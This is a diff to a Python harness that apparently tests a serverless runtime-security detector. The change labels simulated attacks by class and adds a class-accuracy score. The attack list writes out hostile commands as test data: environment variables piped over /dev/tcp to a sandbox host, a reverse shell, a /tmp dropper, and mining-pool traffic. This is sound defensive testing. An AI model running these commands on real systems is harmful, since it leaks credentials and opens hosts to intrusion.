@@ -60,25 +60,30 @@ def benign(i):
 def workload(sink_port, c2_port):
     host = "host.sandbox"
     attacks = [
-        ("command injection: a shell runs commands", {"spawn": ["sh", "-c", "id; uname -a; sleep 0.1"]}),
-        ("reverse shell to a C2 server", {"reverse_shell": {"host": host, "port": c2_port, "wait_ms": 400}}),
-        ("crypto-mining: CPU burn + a pool port", {"connect": {"host": host, "port": 3333}, "burn_ms": 400}),
-        ("exfiltration: 5 MB sent out", {"send": {"host": host, "port": sink_port, "bytes": 5_000_000}}),
-        ("exfiltration: a 4 MB response", {"response_bytes": 4_000_000}),
-        ("credential theft: environ read and sent",
+        ("command injection: a shell runs commands", "command_injection",
+         {"spawn": ["sh", "-c", "id; uname -a; sleep 0.1"]}),
+        ("reverse shell to a C2 server", "reverse_shell",
+         {"reverse_shell": {"host": host, "port": c2_port, "wait_ms": 400}}),
+        ("crypto-mining: CPU burn + a pool port", "crypto_mining",
+         {"connect": {"host": host, "port": 3333}, "burn_ms": 400}),
+        ("exfiltration: 5 MB sent out", "exfiltration_egress",
+         {"send": {"host": host, "port": sink_port, "bytes": 5_000_000}}),
+        ("exfiltration: a 4 MB response", "exfiltration_response", {"response_bytes": 4_000_000}),
+        ("credential theft: environ read and sent", "credential_theft",
          {"spawn": ["bash", "-c", f"cat /proc/self/environ | head -c 4096 > /dev/tcp/{host}/{sink_port}"]}),
-        ("dropper: payload written to /tmp and run",
+        ("dropper: payload written to /tmp and run", "dropper",
          {"exec_tmp": {"path": "/tmp/.x", "script": "#!/bin/sh\nsleep 0.2\necho pwned\n"}}),
-        ("persistence: a process left running", {"spawn_detached": ["sleep", "300"]}),
-        ("denial of wallet: runaway compute", {"burn_ms": 2500}),
+        ("persistence: a process left running", "persistence", {"spawn_detached": ["sleep", "300"]}),
+        ("denial of wallet: runaway compute", "denial_of_wallet", {"burn_ms": 2500}),
     ]
-    events = [(f"benign #{i + 1}", benign(i), False) for i in range(WARMUP)]
-    for n, (label, event) in enumerate(attacks):
-        events.append((label, event, True))
-        events.append((f"benign, after {n + 1}", benign(100 + n), False))
+    events = [(f"benign #{i + 1}", benign(i), None) for i in range(WARMUP)]
+    for n, (label, expected, event) in enumerate(attacks):
+        events.append((label, event, expected))
+        events.append((f"benign, after {n + 1}", benign(100 + n), None))
     for n in range(4):
-        events.append((f"probing: malformed input #{n + 1}", {"error_lines": 3, "fail": f"bad input {n}"}, True))
-    events.append(("benign, last", benign(200), False))
+        events.append((f"probing: malformed input #{n + 1}", {"error_lines": 3, "fail": f"bad input {n}"},
+                       "probing"))
+    events.append(("benign, last", benign(200), None))
     return events
 
 
@@ -142,7 +147,7 @@ def describe(f):
 def show(title, events, report, findings):
     print(f"\n== {title}")
     invocations = [r for r in report if r.get("type") == "invocation"]
-    tally = {"attacks": 0, "found": 0, "benign": 0, "flagged": 0, "planted": 0}
+    tally = {"attacks": 0, "found": 0, "named": 0, "benign": 0, "flagged": 0, "planted": 0}
     quiet = 0
     for (label, _, attack), inv in zip(events, invocations):
         found = findings.get(inv["request_id"], [])
@@ -151,6 +156,9 @@ def show(title, events, report, findings):
         planted = bool(found) and all("still_running" in f["indicators"] for f in found)
         if attack:
             tally["found"] += bool(found)
+            # Named right: the most severe finding (the one a responder acts on) has the class.
+            top = max(found, key=lambda f: f["score"], default=None)
+            tally["named"] += bool(top) and top["class"] == attack
         else:
             tally["planted" if planted else "flagged"] += bool(found)
         if not attack and not found:
@@ -162,6 +170,8 @@ def show(title, events, report, findings):
         print(f"{label:<44} {inv['status']:<8} {inv.get('duration_ms') or 0:>8.1f} ms")
         if not found:
             print("   (no finding)")
+        elif attack and max(found, key=lambda f: f["score"])["class"] != attack:
+            print(f"   (expected class {attack})")
         # The most severe first: a real-time finding and the end-of-invocation one may both exist.
         for f in sorted(found, key=lambda f: -f["score"])[:2]:
             if f.get("reported_with"):
@@ -170,7 +180,8 @@ def show(title, events, report, findings):
             print("\n".join(describe(f)))
     if quiet:
         print(f"{quiet} benign invocation(s): no finding")
-    print(f"-- attacks found: {tally['found']}/{tally['attacks']}; "
+    print(f"-- attacks found: {tally['found']}/{tally['attacks']}, named with their class: "
+          f"{tally['named']}/{tally['found']}; "
           f"benign invocations with a finding: {tally['flagged']}/{tally['benign']} "
           f"(and {tally['planted']} reporting the process the persistence attack left running)")
     return tally
@@ -192,7 +203,9 @@ def main():
     totals.append(show("Rust function (lambda_runtime) with the Warden layer", events, report, findings))
     summary = [r for r in report if r.get("type") == "summary"]
     print("\n== summary")
-    print(f"attacks found: {sum(t['found'] for t in totals)}/{sum(t['attacks'] for t in totals)}; "
+    found, named = sum(t['found'] for t in totals), sum(t['named'] for t in totals)
+    print(f"attacks found (recall): {found}/{sum(t['attacks'] for t in totals)}; "
+          f"named with their class (class accuracy): {named}/{found}; "
           f"benign invocations with a finding: {sum(t['flagged'] for t in totals)}/{sum(t['benign'] for t in totals)} "
           f"(and {sum(t['planted'] for t in totals)} reporting the process the persistence attack left running)")
     print(f"the attacker's host received {received['bytes']} bytes on {received['connections']} connections")
